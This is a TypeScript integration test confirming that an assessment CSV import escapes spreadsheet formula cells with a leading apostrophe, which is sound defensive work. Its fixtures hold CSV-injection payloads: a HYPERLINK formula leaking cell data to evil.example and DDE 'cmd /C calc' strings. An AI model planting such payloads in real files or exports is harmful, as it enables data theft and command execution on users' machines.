import { createTestApp, type TestApp } from '../../../test/test-app';
import { bearer, createAccount, db } from '../../../test/factories';

describe('assessment CSV import keeps spreadsheet formulas as text', () => {
  let t: TestApp;
  let weldingSkill: string;

  beforeAll(async () => {
    t = await createTestApp();
    const search = await t.http.get('/api/taxonomy/skills').query({ q: 'зварювання', lang: 'uk' });
    weldingSkill = search.body.hits[0].code;
  });

  afterAll(async () => {
    await t.app.close();
  });

  it('neutralises formula cells in the preview and in what the import stores', async () => {
    const candidate = await createAccount(t, 'candidate');
    const iba = await createAccount(t, 'iba_staff');
    const csv = [
      'candidate,provider,procedure,assessedOn,code,level',
      `${candidate.candidateId},"=HYPERLINK(""https://evil.example/?x=""&A1,""Zertifikat"")",@SUM(1+1)*cmd|' /C calc'!A0,2026-09-01,${weldingSkill},good`,
      `+cmd|' /C calc'!A0,Handwerkskammer,-2+3,2026-09-01,=1+1,good`,
    ].join('\n');
    const preview = await t.http
      .post('/api/assessments/csv/preview')
      .set(bearer(iba))
      .attach('file', Buffer.from(csv), 'results.csv');
    expect(preview.status).toBe(200);
    const bad = preview.body.rows[1];
    expect(bad.candidate).toBe("'+cmd|' /C calc'!A0");
    expect(bad.code).toBe("'=1+1");
    expect(preview.body.rows[0].candidate).toBe(candidate.candidateId);

    const good = csv.split('\n').slice(0, 2).join('\n');
    const imported = await t.http
      .post('/api/assessments/csv')
      .set(bearer(iba))
      .attach('file', Buffer.from(good), 'results.csv');
    expect(imported.status).toBe(201);
    const stored = await db(t).query(
      `SELECT e.provider, e.procedure FROM competence_evidence e
         JOIN profile_competence c ON c.id = e.competence_id WHERE c.candidate_id = $1`,
      [candidate.candidateId],
    );
    expect(stored).toEqual([
      {
        provider: `'=HYPERLINK("https://evil.example/?x="&A1,"Zertifikat")`,
        procedure: "'@SUM(1+1)*cmd|' /C calc'!A0",
      },
    ]);
    const profile = await t.http
      .get(`/api/candidates/${candidate.candidateId}/profile`)
      .set(bearer(candidate));
    const evidence = profile.body.competences[0].evidence[0];
    for (const text of [evidence.provider, evidence.procedure]) expect(text).toMatch(/^'/);
  });
});
